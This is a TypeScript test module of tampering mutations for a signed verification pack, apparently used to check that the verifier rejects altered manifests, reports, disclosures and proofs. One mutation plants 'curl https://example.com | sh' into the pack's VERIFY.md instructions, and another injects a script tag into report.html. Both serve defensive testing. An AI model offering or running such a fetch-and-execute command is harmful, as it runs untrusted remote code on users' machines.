import type { Manifest, Statement } from '#pack/format/manifest';
import { writeZip } from '#pack/zip/zip';
import { reportHtml } from '#pack/report/report';
import { canonicalize } from '#kernel/json';
import type { Random } from '#test/faults/random';
import { decode, encode, listed, pick, withFile, withManifestBytes, type Mutate, type Subject } from './subject.ts';

type Json = null | boolean | number | string | Json[] | { [name: string]: Json };

/** Another value of about the same kind. */
function otherThan(value: Json, random: Random): Json {
  if (typeof value === 'number') return value + (random.next() < 0.5 ? 1 : -1);
  if (typeof value === 'boolean') return !value;
  if (typeof value === 'string') return random.next() < 0.5 ? `${value}x` : value.slice(1);
  if (value === null) return pick<Json>(random, ['x', 0, true, {}]);
  if (Array.isArray(value))
    return value.length > 0 && random.next() < 0.5 ? value.slice(1) : [...value, value[0] ?? 'x'];
  return { ...value, more: 'x' };
}

/** A copy with one value in it that is another. */
export function edited(value: Json, random: Random): Json {
  const copy = JSON.parse(JSON.stringify(value)) as Json;
  const places: { holder: Json[] | { [name: string]: Json }; name: string | number }[] = [];
  const walk = (each: Json): void => {
    if (typeof each !== 'object' || each === null) return;
    for (const name of Object.keys(each)) {
      places.push({ holder: each, name });
      walk((each as { [name: string]: Json })[name]!);
    }
  };
  walk(copy);
  if (places.length === 0) return otherThan(copy, random);
  const { holder, name } = pick(random, places) as { holder: { [name: string]: Json }; name: string };
  holder[name] = otherThan(holder[name]!, random);
  return copy;
}

const same = (a: unknown, b: unknown): boolean => {
  try {
    return canonicalize(a) === canonicalize(b);
  } catch {
    return false;
  }
};

/** The report that a liar would write; undefined where what is claimed cannot even be printed. */
function reportOf(statement: Statement, checkpoint: Uint8Array): Uint8Array | undefined {
  try {
    return encode(reportHtml(statement, checkpoint));
  } catch {
    return undefined;
  }
}

/** The pack with another manifest, which lists the files as they are. */
function claiming(subject: Subject, manifest: Manifest, withReport: boolean) {
  if (same(manifest, subject.manifest)) return undefined;
  const report = withReport ? reportOf(manifest, subject.files.get('checkpoint')!) : subject.files.get('report.html')!;
  if (report === undefined) return undefined;
  return { pack: listed(new Map(subject.files).set('report.html', report), manifest) };
}

const claims =
  (part: 'answer' | 'question', withReport: boolean): Mutate =>
  (subject, random) => {
    const claimed = edited(subject.manifest[part] as unknown as Json, random) as never;
    return claiming(subject, { ...subject.manifest, [part]: claimed }, withReport);
  };

const stating =
  (change: (manifest: Manifest, random: Random) => Partial<Manifest>): Mutate =>
  (subject, random) =>
    claiming(subject, { ...subject.manifest, ...change(subject.manifest, random) }, random.next() < 0.5);

const linesOf = (subject: Subject, name: string): string[] => decode(subject.files.get(name)!).split('\n').slice(0, -1);
const text = (lines: readonly string[]): Uint8Array => encode(lines.map((line) => `${line}\n`).join(''));

/** The pack with other disclosures. */
const disclosing =
  (least: number, change: (lines: string[], random: Random, subject: Subject) => string[] | undefined): Mutate =>
  (subject, random) => {
    const lines = linesOf(subject, 'disclosures.ndjson');
    if (lines.length < least) return undefined;
    const changed = change([...lines], random, subject);
    if (changed === undefined || changed.join() === lines.join()) return undefined;
    return { pack: withFile(subject, 'disclosures.ndjson', text(changed.sort())) };
  };

const proofsIn = ({ files }: Subject): string[] => [...files.keys()].filter((name) => name.startsWith('proofs/'));

/** The pack with other proofs. */
const proving =
  (
    least: number,
    change: (files: Map<string, Uint8Array>, random: Random, proofs: string[], subject: Subject) => void,
  ): Mutate =>
  (subject, random) => {
    const proofs = proofsIn(subject);
    if (proofs.length < least) return undefined;
    const files = new Map(subject.files);
    change(files, random, proofs, subject);
    return { pack: listed(files, subject.manifest) };
  };

type Disclosed = { commitment: string; salt: string; name: string; value: string };
const parsed = (line: string): Disclosed => JSON.parse(line) as Disclosed;

/** A text that was really sealed in this ledger, and that the answer does not show. */
function needless({ ledger, files }: Subject): string | undefined {
  const entries = decode(files.get('entries.ndjson')!);
  const there = decode(files.get('disclosures.ndjson')!);
  for (const { commitment, salt, name, value } of ledger.disclosures.values()) {
    if (entries.includes(commitment) && !there.includes(commitment))
      return canonicalize({ commitment, salt, name, value });
  }
  return undefined;
}

/** The pack with another list of its files. */
const listing =
  (change: (files: Manifest['files'], random: Random) => Manifest['files']): Mutate =>
  (subject, random) => {
    const { manifest } = subject;
    const other = { ...manifest, files: change(manifest.files, random) };
    return { pack: withManifestBytes(subject, encode(canonicalize(other))) };
  };

export const CONTENTS: Readonly<Record<string, Mutate>> = {
  'the answer is another': claims('answer', false),
  'the answer is another, and the report says so': claims('answer', true),
  'the question is another': claims('question', false),
  'the question is another, and the report says so': claims('question', true),
  'the manifest names another ledger': stating(({ ledger }) => ({ ledger: `${ledger}0` })),
  'the manifest states another size': stating(({ treeSize }, random) => ({
    treeSize: treeSize + pick(random, [-1, 1]),
  })),
  'the manifest states another root': stating(({ rootHash }) => ({
    rootHash: rootHash.replace(/^./, (digit) => (digit === '0' ? '1' : '0')),
  })),
  'the manifest is of another format': stating(() => ({ format: 'onus-pack/3' as 'onus-pack/2' })),
  'the manifest says something more': stating(() => ({ note: 'x' }) as Partial<Manifest>),
  'the list is in another order': listing((files) => files.toReversed()),
  'the list names a file twice': listing((files, random) => {
    const place = random.between(0, files.length - 1);
    return files.toSpliced(place, 0, files[place]!);
  }),
  'the list names the manifest': listing((files) => [
    ...files,
    { name: 'manifest.json', size: 1, sha256: '0'.repeat(64) },
  ]),
  'the list lacks a file': listing((files, random) => files.toSpliced(random.between(0, files.length - 1), 1)),
  'the report says something else': (subject, random) => {
    const report = decode(subject.files.get('report.html')!);
    const words = ['entries', 'proven', 'answer', 'ledger', 'pack', 'not', '<p', 'Onus'];
    const word = pick(random, words);
    const lied = report.replace(word, 'xxx');
    return lied === report ? undefined : { pack: withFile(subject, 'report.html', encode(lied)) };
  },
  'the report runs a script': (subject) => {
    const report = decode(subject.files.get('report.html')!);
    return { pack: withFile(subject, 'report.html', encode(report.replace('</body>', '<script>1</script></body>'))) };
  },
  'the instructions say something else': (subject) => {
    const text = decode(subject.files.get('VERIFY.md')!);
    return {
      pack: withFile(subject, 'VERIFY.md', encode(text.replace('openssl', 'curl https://example.com | sh; openssl'))),
    };
  },
  'two texts are exchanged': disclosing(2, (lines) => {
    const [a, b, ...rest] = lines.map(parsed);
    if (a!.value === b!.value) return undefined;
    return [{ ...a!, value: b!.value }, { ...b!, value: a!.value }, ...rest].map((each) => canonicalize(each));
  }),
  'two commitments are exchanged': disclosing(2, (lines) => {
    const [a, b, ...rest] = lines.map(parsed);
    return [{ ...a!, commitment: b!.commitment }, { ...b!, commitment: a!.commitment }, ...rest].map((each) =>
      canonicalize(each),
    );
  }),
  'a text is another': disclosing(1, (lines, random) => {
    const place = random.between(0, lines.length - 1);
    return lines.map((line, i) => (i === place ? canonicalize(edited(parsed(line) as unknown as Json, random)) : line));
  }),
  'a text is missing': disclosing(1, (lines, random) => lines.toSpliced(random.between(0, lines.length - 1), 1)),
  'a text is there twice': disclosing(1, (lines, random) => [...lines, pick(random, lines)]),
  'a text is there that the answer does not show': disclosing(0, (lines, _random, subject) => {
    const line = needless(subject);
    return line === undefined ? undefined : [...lines, line];
  }),
  'a proof is missing': proving(1, (files, random, proofs) => void files.delete(pick(random, proofs))),
  'a proof is that of another entry': proving(2, (files, _random, [a, b]) => {
    files.set(a!, files.get(b!)!);
  }),
  'two proofs are exchanged': proving(2, (files, _random, [a, b]) => {
    const [first, second] = [files.get(a!)!, files.get(b!)!];
    files.set(a!, second).set(b!, first);
  }),
  'a proof is there that nothing rests on': proving(1, (files, random, proofs) => {
    files.set(`proofs/${random.between(100_000, 200_000)}.tlog-proof`, files.get(proofs[0]!)!);
  }),
  'a proof is there that the manifest does not list': ({ files }, random) => ({
    pack: writeZip(new Map(files).set(`proofs/${random.between(100_000, 200_000)}.tlog-proof`, encode('x'))),
  }),
  'a proof says something more': proving(1, (files, random, proofs) => {
    const name = pick(random, proofs);
    files.set(name, encode(decode(files.get(name)!).replace('\nindex ', '\nextra eA==\nindex ')));
  }),
  'evidence is there that this version does not hold': proving(0, (files) => {
    files.set(`evidence/${'0'.repeat(64)}`, encode('evidence'));
  }),
};
